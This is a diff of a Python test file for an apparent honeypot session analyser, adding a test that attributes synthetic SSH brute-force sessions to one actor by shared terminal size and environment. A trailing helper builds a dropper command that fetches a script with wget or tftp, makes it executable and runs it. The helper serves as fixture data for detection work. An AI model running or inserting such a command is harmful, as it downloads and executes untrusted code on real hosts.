@@ -291,6 +291,38 @@ def test_an_operator_rotating_through_its_24_with_its_own_client_is_one_actor() 
     assert _merged_with(result, set(hosting)) == 0
 
 
+def test_a_toolkits_own_terminal_request_counts_as_tooling_and_a_library_default_does_not() -> None:
+    """An operator's /24 on the commonest client whose sessions ask for one odd pty size and env:
+    one actor. A crowded /24 whose sessions ask for the library default (80x24) stays apart."""
+    rng = random.Random(34)
+    own = [f"45.141.84.{n}" for n in (12, 57, 98, 201)]
+    crowd = [f"193.42.34.{n}" for n in range(10, 30)]
+    sessions = []
+    for k, ip in enumerate(own):
+        for j in range(4):
+            tried = [("root", f"{rng.choice(['seoul', 'tplink', 'princess'])}{k}{j}{x}") for x in "!@#"]
+            s = session(ip, k * 5400.0 + 600 * j, logins=tried, key=j)
+            sessions.append(
+                s.model_copy(update={"terminal": "211x51", "env": ["LC_ALL=C", "TERM=xterm-256color"]})
+            )
+    for ip in crowd:
+        tried = [("root", p) for p in rng.sample(TOP_PASSWORDS, 4)]
+        s = session(ip, rng.uniform(0, 4 * 3600), logins=tried)
+        sessions.append(s.model_copy(update={"terminal": "80x24"}))
+    noise = [
+        s.model_copy(update={"terminal": "80x24"}) if i % 2 else s
+        for i, s in enumerate(background(rng, 120, span_s=4 * 3600))
+    ]
+    result = analyze_sessions(sessions + noise, {})
+    found = [c for c in result.campaigns if set(own) <= set(c.source_ips)]
+    assert found and found[0].verdict is Verdict.SINGLE_ACTOR_MULTI_SOURCE
+    assert _merged_with(result, set(crowd)) == 0
+    frame = build_frame(sessions + noise)
+    members = np.array([frame.source_ips.index(ip) for ip in own], dtype=np.int64)
+    crowded = np.array([frame.source_ips.index(ip) for ip in crowd[:4]], dtype=np.int64)
+    assert shared_tool_log_odds(frame, members) > 5 * shared_tool_log_odds(frame, crowded)
+
+
 def _dropper(host: str, script: str) -> str:
     return (
         f"cd /tmp; wget http://{host}/{script}; chmod 777 {script}; sh {script}; tftp {host} -c get t{script}"
